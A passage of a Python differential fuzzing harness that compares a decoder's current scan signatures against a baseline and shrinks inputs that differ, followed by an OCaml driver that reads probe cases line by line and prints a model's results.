        elif k < 0.90 and pool:
            o = rng.choice(pool)
            cut = rng.randrange(len(o) + 1)
            w[i:] = o[cut:] if rng.random() < 0.5 else w[i:] + o[:cut]
        elif k < 0.95:
            w[:0] = rng.choice([b" ", b"x ", b"\n", b"zzzzzz ", b"a=", b'"', b"("])
        else:
            import stacks
            l = rng.choice(stacks.LAYERS)
            try:
                if l.dom(bytes(w)) and len(w) < 400:
                    w = bytearray(l.wrap[0] + l.enc(bytes(w)) + l.wrap[1])
            except Exception:  # noqa: BLE001
                pass
    return bytes(w[:3000])


def changed_pattern_words(rng, n):
    """words of the languages of every regular expression whose pattern text differs between the baseline snapshot and the current tree - sampled from BOTH versions
    (a word the old pattern admits and the new one does not, or the reverse, is exactly where the two behave differently)"""
    import json
    import corpus_gen
    import gen_regexes
    import regex_probe
    try:
        env = dict(os.environ, PYTHONPATH=BASE_SRC + os.pathsep + HERE, PYTHONHASHSEED="0", PYTHONDONTWRITEBYTECODE="1")
        p = subprocess.run([sys.executable, os.path.join(HERE, "basesrv.py"), "--patterns"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env, timeout=120)
        base = {k: bytes.fromhex(v) for k, v in json.loads(p.stdout.decode()).items()}
        cur = {name: pat for name, pat, _ in gen_regexes.collect()}
    except Exception:  # noqa: BLE001
        return [], []
    out, names = [], []
    for name in sorted(set(base) | set(cur)):
        if base.get(name) == cur.get(name):
            continue
        names.append(name)
        for pat in (base.get(name), cur.get(name)):
            if pat is None:
                continue
            try:
                r, _ng = gen_regexes.translate(pat, name)
            except Exception:  # noqa: BLE001
                continue
            for _ in range(n):
                w = regex_probe.sample(r, rng)
                if 0 < len(w) < 2500:
                    out.append(w if rng.random() < 0.4 else corpus_gen.embed(rng, w))
    return out, names


def seeds(rng, n):
    import corpus_gen
    import stacks
    out = list(corpus_gen.FRAGMENTS)
    out += corpus_gen.gen_inputs(rng, n)
    out += [corpus_gen.plain_nested(rng) for _ in range(n // 10)]
    for p in stacks.PAYLOADS[:6]:
        for l in stacks.LAYERS:
            b = stacks.build(p, [l], b"zz ~ ", b" ~ zz")
            if b is not None and len(b[0]) < 3000:
                out.append(b[0])
    for _ in range(n // 10):
        b = stacks.build(rng.choice(stacks.PAYLOADS[:6]), [rng.choice(stacks.LAYERS) for _ in range(rng.randint(2, 3))], b"go ", b" end")
        if b is not None and len(b[0]) < 3000:
            out.append(b[0])
    return [d for d in out if len(d) <= 3000]


def search(rng, drift_keys, seconds, log=lambda s: None):
    """-> {"inputs": [(data, depth)], "histories": [[(data, depth), ...]], "stats": {...}}"""
    t0 = time.time()
    files = sorted({k.split("::")[0].split("src/multidecoder/")[-1] for k in drift_keys})
    cover = Cover([os.path.join("multidecoder", f) for f in files] or ["multidecoder"])
    cur = driftsig.Session()
    base = Base()
    stats = {"evaluated": 0, "coverage_points": 0, "queue": 0, "differences": 0, "history_differences": 0, "files": files}
    diffs, histories, queue, trail, alone = [], [], [], [], []
    seen_diff = set()
    depth_choices = [10, 10, 10, 10, None, None, 1, 2, 3, 0]

    def batch(items):
        mine = []
        gains = []
        base.send(items)
        for data, depth in items:
            mine.append(cover.run(lambda: cur.sig(data, depth)))
            gains.append(cover.new)
        theirs = base.recv()
        stats["evaluated"] += len(items)
        for it, a, b, g in zip(items, mine, theirs, gains):
            trail.append(it)
            if g:
                queue.append(it[0])
            if a != b and it not in seen_diff:
                seen_diff.add(it)
                diffs.append((it, len(trail)))
    try:
        words, changed = changed_pattern_words(rng, 150)
        stats["changed_patterns"] = changed
        sd = words + seeds(rng, 400)
        for i in range(0, len(sd), 100):
            batch([(d, rng.choice(depth_choices)) for d in sd[i:i + 100]])
            if time.time() - t0 > seconds * 0.6:
                break
        # a second look at inputs already seen (hidden state differs only the second time)
        batch([trail[i] for i in range(0, len(trail), max(1, len(trail) // 60))])
        while time.time() - t0 < seconds and len(diffs) < 60:
            pool = queue[-400:] or sd
            items = []
            for _ in range(60):
                r = rng.random()
                if r < 0.08 and trail:
                    items.append(rng.choice(trail[-300:]))
                else:
                    items.append((mutate(rng, rng.choice(pool), pool), rng.choice(depth_choices)))
            batch(items)
        # classify: does the difference show on fresh scanners, on that input alone?
        for (data, depth), pos in sorted(diffs, key=lambda x: len(x[0][0]))[:60]:
            base.fresh()
            a = driftsig.Session().sig(data, depth)
            b = base.sigs([(data, depth)])[0]
            if a != b:
                stats["differences"] += 1
                alone.append((data, depth))
            else:
                stats["history_differences"] += 1
                histories.append(trail[max(0, pos - 40):pos])
    finally:
        base.close()
    stats["coverage_points"] = len(cover.seen)
    stats["queue"] = len(queue)
    stats["seconds"] = round(time.time() - t0, 1)
    return {"inputs": shrink_all(rng, alone[:12]) + alone[12:40], "histories": histories[:5], "stats": stats}


def shrink_all(rng, items):
    """greedy chunk deletion keeping `current != baseline` on fresh scanners (bounded effort)"""
    if not items:
        return []
    base = Base()
    out = []
    try:
        for data, depth in items:
            def differs(d):
                base.fresh()
                return driftsig.Session().sig(d, depth) != base.sigs([(d, depth)])[0]
            n = 0
            chunk = max(1, len(data) // 4)
            while chunk >= 1 and n < 120:
                i = 0
                while i < len(data) and n < 120:
                    cand = data[:i] + data[i + chunk:]
                    n += 1
                    if differs(cand):
                        data = cand
                    else:
                        i += chunk
                chunk //= 2
            out.append((data, depth))
    finally:
        base.close()
    return out
