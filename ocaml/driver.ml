(* Generic correspondence driver: one case per line "<probe> <value>", one result per line.
   value ::= i<int> | b<hex> | s<cp,cp,...> | ( value* )                                  *)

let rec pos_of_int (i : int) : Model.positive =
  if i = 1 then Model.XH else if i land 1 = 1 then Model.XI (pos_of_int (i lsr 1)) else Model.XO (pos_of_int (i lsr 1))
let n_of_int i = if i = 0 then Model.N0 else Model.Npos (pos_of_int i)
let z_of_int i = if i = 0 then Model.Z0 else if i > 0 then Model.Zpos (pos_of_int i) else Model.Zneg (pos_of_int (- i))
let rec int_of_pos = function Model.XH -> 1 | Model.XO p -> 2 * int_of_pos p | Model.XI p -> 2 * int_of_pos p + 1
let int_of_n = function Model.N0 -> 0 | Model.Npos p -> int_of_pos p
let int_of_z = function Model.Z0 -> 0 | Model.Zpos p -> int_of_pos p | Model.Zneg p -> - (int_of_pos p)

let hexval c = match c with
  | '0'..'9' -> Char.code c - 48 | 'a'..'f' -> Char.code c - 87 | 'A'..'F' -> Char.code c - 55
  | _ -> failwith "hex"

let parse_atom (t : string) : Model.pval =
  let body = String.sub t 1 (String.length t - 1) in
  match t.[0] with
  | 'i' -> Model.VInt (z_of_int (int_of_string body))
  | 'b' ->
    let n = String.length body / 2 in
    Model.VBytes (List.init n (fun k -> n_of_int (hexval body.[2*k] * 16 + hexval body.[2*k+1])))
  | 's' ->
    if body = "" then Model.VStr [] else
    Model.VStr (List.map (fun x -> n_of_int (int_of_string x)) (String.split_on_char ',' body))
  | _ -> failwith ("atom " ^ t)

let parse (toks : string list) : Model.pval * string list =
  let rec value = function
    | "(" :: rest -> let (items, rest') = items rest [] in (Model.VList items, rest')
    | t :: rest -> (parse_atom t, rest)
    | [] -> failwith "eof"
  and items toks acc = match toks with
    | ")" :: rest -> (List.rev acc, rest)
    | _ -> let (v, rest) = value toks in items rest (v :: acc)
  in value toks

let buf = Buffer.create 65536
let rec print (v : Model.pval) : unit = match v with
  | Model.VInt z -> Buffer.add_char buf 'i'; Buffer.add_string buf (string_of_int (int_of_z z))
  | Model.VBytes b -> Buffer.add_char buf 'b';
    List.iter (fun c -> Buffer.add_string buf (Printf.sprintf "%02x" (int_of_n c))) b
  | Model.VStr s -> Buffer.add_char buf 's';
    Buffer.add_string buf (String.concat "," (List.map (fun c -> string_of_int (int_of_n c)) s))
  | Model.VList l -> Buffer.add_char buf '(';
    List.iter (fun x -> Buffer.add_char buf ' '; print x) l; Buffer.add_string buf " )"

let () =
  try
    while true do
      let line = input_line stdin in
      let toks = List.filter (fun s -> s <> "") (String.split_on_char ' ' line) in
      (match toks with
       | name :: rest ->
         let nm = List.init (String.length name) (fun k -> n_of_int (Char.code name.[k])) in
         let (arg, _) = parse rest in
         Buffer.clear buf;
         (try print (Model.probe nm arg) with Stack_overflow -> (Buffer.clear buf; Buffer.add_string buf "( s101,114,114,111,114 s115,116,97,99,107 )"));
         print_string (Buffer.contents buf); print_newline ()
       | [] -> print_newline ())
    done
  with End_of_file -> ()
